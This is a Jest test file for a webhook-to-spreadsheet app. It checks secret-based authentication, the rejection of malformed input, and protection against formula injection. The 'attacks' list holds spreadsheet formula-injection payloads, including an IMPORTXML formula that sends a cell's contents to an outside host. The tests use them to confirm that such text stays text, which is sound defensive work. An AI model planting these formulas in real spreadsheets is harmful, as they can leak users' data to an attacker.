import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { askPanel } from '../support/ask-panel';
import { agentStatus, sampleSecret, startPlantao, type Plantao } from '../support/plantao';

const attacks = [
  '=IMPORTXML("https://example.com/?q="&A1,"//a")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1',
  '＠x',
  '=HYPERLINK("https://example.com","x")',
];

const lookalikes = [
  '01234',
  '12E3',
  '+5511999990000',
  '+55 11 99999-0000',
  '12345678901234567890',
  '2024-05-01',
  '1/2',
  '14:30',
  '10%',
  'R$ 2,99',
  '1,5',
  'TRUE',
  'verdadeiro',
  "'com apóstrofo",
  "''dois",
  '22 34',
  ' espaço ',
  'linha 1\nlinha 2',
  '😀 emoji',
];

describe('P4 Nobody gets in', () => {
  let plantao: Plantao;
  beforeAll(async () => {
    plantao = await startPlantao();
    await plantao.post('huggy', agentStatus());
  });
  afterAll(() => plantao.twin.stop());

  describe("Without the connection's secret nothing is written", () => {
    it.each([
      ['wrong secret', 'k=huggy.wrong&w=main'],
      ['missing secret', 'k=huggy&w=main'],
      ['blank secret', 'k=huggy.&w=main'],
      ['unknown connection', `k=nobody.${sampleSecret}&w=main`],
      ['no query', ''],
      ["another connection's id", `k=.${sampleSecret}`],
      ['the secret in a form body only', 'w=main'],
    ])('%s', async (_name, query) => {
      const before = plantao.rows('Diário').length;
      const answer = await plantao.post(
        'huggy',
        agentStatus({ agents: [{ id: 666, name: 'Estranho' }] }),
        { query },
      );
      expect(JSON.stringify(answer)).toContain('segredo');
      expect(plantao.rows('Diário')).toHaveLength(before);
      expect(plantao.rows('Agora').map((row) => row['Agente'])).not.toContain('Estranho');
    });

    it('takes no secret out of a form body', async () => {
      const body = `k=huggy.${sampleSecret}&w=main`;
      const before = plantao.rows('Diário').length;
      await plantao.post('huggy', body, {
        query: '',
        contentType: 'application/x-www-form-urlencoded',
      });
      expect(plantao.rows('Diário')).toHaveLength(before);
    });

    it('takes the old and the new secret while it is being changed, then only the new one', async () => {
      const own = await startPlantao();
      const secretOf = (connections: unknown): string =>
        /k=huggy\.([\w-]+)&/.exec(JSON.stringify(connections))?.[1] ?? '';
      const ids = () => own.rows('Agora').map((row) => row['Agente']);
      await askPanel(own.twin, 'changeSecret', 'huggy');
      const fresh = secretOf(await askPanel(own.twin, 'readPanel'));
      const send = (id: number, secret: string) =>
        own.post('huggy', agentStatus({ agents: [{ id, name: `Segredo ${id}` }] }), {
          query: `k=huggy.${secret}&w=main`,
        });
      await send(51, sampleSecret);
      await send(52, fresh);
      expect(ids()).toEqual(expect.arrayContaining(['Segredo 51', 'Segredo 52']));
      await askPanel(own.twin, 'dropOldSecrets', 'huggy');
      await send(53, sampleSecret);
      await send(54, fresh);
      expect(ids()).toContain('Segredo 54');
      expect(ids()).not.toContain('Segredo 53');
      await own.twin.stop();
    });
  });

  describe('Bad input gets a clear answer and no row', () => {
    it.each([
      ['not JSON', 'hello', 'não é JSON'],
      ['empty body', '', 'vazio'],
      ['JSON array', '[1,2]', 'objeto JSON'],
      ['JSON text', '"x"', 'objeto JSON'],
      ['a body over the limit', `{"a":"${'x'.repeat(1_000_001)}"}`, '1 MB'],
    ])('%s', async (_name, body, said) => {
      const before = plantao.rows('Agora').length;
      const answer = await plantao.post('huggy', body);
      expect(JSON.stringify(answer)).toContain(said);
      expect(plantao.rows('Agora')).toHaveLength(before);
      expect(plantao.rows('Diário').at(-1)).toMatchObject({ Situação: 'falhou' });
    });

    it.each([[''], ['hello'], ['[1,2]']])(
      'a platform that reads the answer gets its JSON all the same: %j',
      async (body) => {
        const answer = await plantao.post('treble', body);
        expect(JSON.stringify(answer)).toContain(JSON.stringify('{"user_session_keys":[]}'));
        expect(plantao.rows('Diário').at(-1)).toMatchObject({ Situação: 'falhou' });
      },
    );

    it('messages of a wrong type', async () => {
      for (const messages of [
        null,
        [],
        'x',
        3,
        { agentChangedStatus: {} },
        { agentChangedStatus: 'x' },
      ]) {
        await plantao.post('huggy', {
          time: 1,
          messages,
          token: '888c48839995c333939a80f0000dd354',
        });
      }
      expect(plantao.rows('Agora')).toHaveLength(1);
    });

    it('shows a stranger only that the app is alive', async () => {
      const answer = await plantao.post('huggy', '', { method: 'GET' });
      expect(JSON.stringify(answer)).toContain('no ar');
      expect(JSON.stringify(answer)).not.toContain(sampleSecret);
    });
  });

  describe('A cell never becomes a formula because a customer typed one, and text stays text', () => {
    it.each([...attacks, ...lookalikes])('%j', async (name) => {
      const id = 10_000 + Math.abs(hash(name));
      await plantao.post('huggy', agentStatus({ agents: [{ id, name, origin: name }] }));
      const row = plantao.rows('Agora').find((one) => String(one['Chave']).endsWith(`|${id}`));
      expect(row?.['Origem']).toBe(name);
      expect(row?.['Agente']).toBe(name);
      expect(plantao.formulas('Status dos agentes')).toEqual([]);
    });

    it('cuts what a cell cannot hold and says how much', async () => {
      const name = 'ã'.repeat(60_000);
      await plantao.post('huggy', agentStatus({ agents: [{ id: 5, name }] }));
      const cell = String(plantao.rows('Status dos agentes').at(-1)?.['Agente']);
      const [, missing = '0'] = /…\[\+(\d+)\]$/.exec(cell) ?? [];
      expect(cell.length).toBeLessThanOrEqual(50_000);
      expect(cell.replace(/…\[\+\d+\]$/, '').length + Number(missing)).toBe(60_000);
    });
  });
});

function hash(text: string): number {
  let sum = 7;
  for (const letter of text) sum = (sum * 31 + (letter.codePointAt(0) ?? 0)) % 1_000_003;
  return sum;
}
